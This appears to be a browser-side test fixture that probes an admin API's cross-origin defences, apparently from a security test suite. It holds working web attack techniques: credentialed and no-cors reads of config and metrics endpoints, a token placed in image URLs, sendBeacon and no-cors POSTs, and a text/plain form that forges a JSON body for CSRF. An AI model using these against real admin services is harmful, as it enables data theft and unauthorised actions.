/** Runs in the page: tries everything a page may try. Returns everything it could read. */
globalThis.attack = async (admin, token) => {
  const read = []
  const paths = ["/v1/status", "/metrics", "/v1/config"]
  const note = (what, text) => {
    if (text !== "") read.push(`${what}: ${text}`)
  }
  for (const path of paths) {
    for (const headers of [{}, { authorization: `Bearer ${token}` }]) {
      await fetch(admin + path, { headers, credentials: "include" })
        .then((answer) => answer.text())
        .then((text) => note(path, text))
        .catch(() => {})
    }
    await fetch(admin + path, { mode: "no-cors" })
      .then((answer) => answer.text())
      .then((text) => note(`opaque ${path}`, text))
      .catch(() => {})
    await new Promise((resolve) => {
      const image = new Image()
      image.onload = image.onerror = resolve
      image.src = `${admin}${path}?token=${token}`
    })
    await new Promise((resolve) => {
      const script = document.createElement("script")
      script.onload = script.onerror = resolve
      script.src = admin + path
      document.body.append(script)
    })
  }
  const quarantine = `${admin}/v1/plugins/hello/quarantine`
  const body = '{"reason":"evil"}'
  await fetch(quarantine, { method: "POST", mode: "no-cors", body }).catch(() => {})
  navigator.sendBeacon(quarantine, new Blob([body], { type: "text/plain" }))
  const headers = { "content-type": "application/json", authorization: `Bearer ${token}` }
  await fetch(quarantine, { method: "POST", headers, body }).catch(() => {})
  const frame = document.createElement("iframe")
  frame.name = "target"
  document.body.append(frame)
  const form = document.createElement("form")
  Object.assign(form, { method: "POST", enctype: "text/plain", action: `${admin}/v1/reload`, target: "target" })
  const input = document.createElement("input")
  Object.assign(input, { name: '{"a":"', value: '"}' })
  form.append(input)
  document.body.append(form)
  await new Promise((resolve) => {
    frame.onload = resolve
    form.submit()
  })
  await new Promise((resolve) => {
    const socket = new WebSocket(`${admin.replace("http", "ws")}/v1/logs?follow=1`)
    socket.onopen = () => note("websocket", "open")
    socket.onclose = resolve
  })
  return read
}
